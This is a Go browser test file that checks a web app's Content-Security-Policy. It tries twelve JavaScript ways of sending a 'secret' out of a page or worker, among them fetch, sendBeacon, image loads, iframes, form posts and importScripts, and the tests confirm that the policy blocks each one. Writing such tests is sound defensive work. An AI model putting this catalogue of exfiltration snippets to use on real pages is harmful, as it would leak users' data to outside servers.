//go:build browser

package browsertest

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// leaks are ways to send data from a script to the address %s.
var leaks = []struct{ name, script string }{
	{"fetch", `fetch(%s, { method: "POST", mode: "no-cors", body: "secret" })`},
	{"XMLHttpRequest", `(() => { const r = new XMLHttpRequest(); r.open("POST", %s); r.send("secret"); })()`},
	{"WebSocket", `new WebSocket(%s.replace("http", "ws"))`},
	{"EventSource", `new EventSource(%s)`},
	{"sendBeacon", `navigator.sendBeacon(%s, "secret")`},
	{"image", `(new Image()).src = %s`},
	{"script", `(() => { const s = document.createElement("script"); s.src = %s; document.head.append(s); })()`},
	{"style", `(() => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = %s; document.head.append(l); })()`},
	{"prefetch", `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = %s; document.head.append(l); })()`},
	{"frame", `(() => { const f = document.createElement("iframe"); f.src = %s; document.body.append(f); })()`},
	{"form", `(() => { const f = document.createElement("form"); f.action = %s; f.method = "post"; f.target = "_blank"; document.body.append(f); f.submit(); })()`},
	{"importScripts", `importScripts(%s)`},
}

// in lists the leaks that exist in a place: the page has no importScripts, a worker no
// document, images or beacons.
func in(place string) []string {
	page := []string{"fetch", "XMLHttpRequest", "WebSocket", "EventSource", "sendBeacon", "image", "script", "style", "prefetch", "frame", "form"}
	worker := []string{"fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts"}
	if place == "page" {
		return page
	}
	return worker
}

// The page's policy stops every way out, in the page and in a worker started as the solver
// is. That the same attempts succeed from a page without the policy shows that they would be
// noticed.
func TestNothingCanBeSentOut(t *testing.T) {
	other := Serve(t, t.TempDir(), "/")
	server := Serve(t, Dist(t), "/repo/")
	for _, place := range []string{"page", "worker"} {
		t.Run(place, func(t *testing.T) {
			p := visit(Start(t), server.URL())
			Eval[bool](p, `(globalThis.violations = [], document.addEventListener("securitypolicyviolation", (e) => violations.push(e.blockedURI)), true)`)
			other.Forget()
			for _, name := range in(place) {
				leak(p, place, name, other.URL()+name)
			}
			settle(p)
			if got := other.Requests(); len(got) > 0 {
				t.Errorf("the other server got %v", got)
			}
			if place == "page" {
				if n := Eval[int](p, "violations.length"); n < len(in(place)) {
					t.Errorf("%d attempts, and the browser reports %d violations: %v", len(in(place)), n, Eval[[]string](p, "violations"))
				}
			}
		})
	}
	t.Run("without a policy", func(t *testing.T) {
		bare := copyOf(t, Dist(t))
		stripPolicy(t, bare)
		p := visit(Start(t), Serve(t, bare, "/").URL())
		for _, place := range []string{"page", "worker"} {
			other.Forget()
			for _, name := range in(place) {
				leak(p, place, name, other.URL()+name)
			}
			settle(p)
			for _, name := range in(place) {
				if !slices.ContainsFunc(other.Requests(), func(r Request) bool { return r.Path == "/"+name }) {
					t.Errorf("%s from the %s would not be noticed", name, place)
				}
			}
		}
	})
}

// stripPolicy takes the policy out of a site's page.
func stripPolicy(t *testing.T, dist string) {
	t.Helper()
	page := filepath.Join(dist, "index.html")
	text, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	bare := strings.Replace(string(text), "Content-Security-Policy", "X-Nothing", 1)
	if bare == string(text) {
		t.Fatal("the page has no policy")
	}
	if err := os.WriteFile(page, []byte(bare), 0o644); err != nil {
		t.Fatal(err)
	}
}

// leak tries one way out and waits until the attempt was made. An exception is fine.
func leak(p *Page, place, name, url string) {
	p.t.Helper()
	i := slices.IndexFunc(leaks, func(l struct{ name, script string }) bool { return l.name == name })
	script := fmt.Sprintf(leaks[i].script, quote(url))
	if place == "page" {
		Eval[bool](p, "(async () => { try { await ("+script+") } catch {} return true })()")
		return
	}
	source := "(async () => { try { await (" + script + ") } catch {} postMessage(1) })()"
	Eval[bool](p, fmt.Sprintf(`new Promise((done) => {
		const worker = new Worker(URL.createObjectURL(new Blob([%s], { type: "text/javascript" })));
		worker.onmessage = () => done(true);
	})`, quote(source)))
}

// settle gives requests that are under way the time to arrive.
func settle(p *Page) {
	p.t.Helper()
	Eval[bool](p, "new Promise((done) => setTimeout(() => done(true), 1000))")
}

// From the first request on nothing goes to another origin, and once the page says that it
// is ready offline it asks for nothing at all, except that the browser looks for a new
// service worker.
func TestNoRequests(t *testing.T) {
	server := Serve(t, Dist(t), "/repo/")
	b := Start(t)
	p := visit(b, server.URL())
	server.Forget()
	p.Reload()
	p.WaitText("offline-state", "ready offline")
	p.Go(server.URL() + "?example=acc&c=3")
	p.WaitText("offline-state", "ready offline")
	settle(p)
	onlyServiceWorkerChecks(t, server)
	if outside := Outside(b.Fetches(), server.Origin()); len(outside) > 0 {
		t.Errorf("requests to other origins: %v", outside)
	}
}

// onlyServiceWorkerChecks fails the test when the server got any other request.
func onlyServiceWorkerChecks(t *testing.T, server *Server) {
	t.Helper()
	for _, r := range server.Requests() {
		if !r.Script {
			t.Errorf("request after everything was stored: %s %s", r.Method, r.Path)
		}
	}
}

// The browser's log would show a request to another origin.
func TestNetworkLogSeesRequests(t *testing.T) {
	other := Serve(t, t.TempDir(), "/")
	bare := copyOf(t, Dist(t))
	stripPolicy(t, bare)
	server := Serve(t, bare, "/")
	b := Start(t)
	p := visit(b, server.URL())
	leak(p, "page", "fetch", other.URL()+"from-page")
	leak(p, "worker", "fetch", other.URL()+"from-worker")
	var found []string
	for _, f := range Outside(b.Fetches(), server.Origin()) {
		found = append(found, strings.TrimPrefix(f.URL, other.URL()))
	}
	slices.Sort(found)
	if !slices.Equal(found, []string{"from-page", "from-worker"}) {
		t.Errorf("the log has %v", found)
	}
}
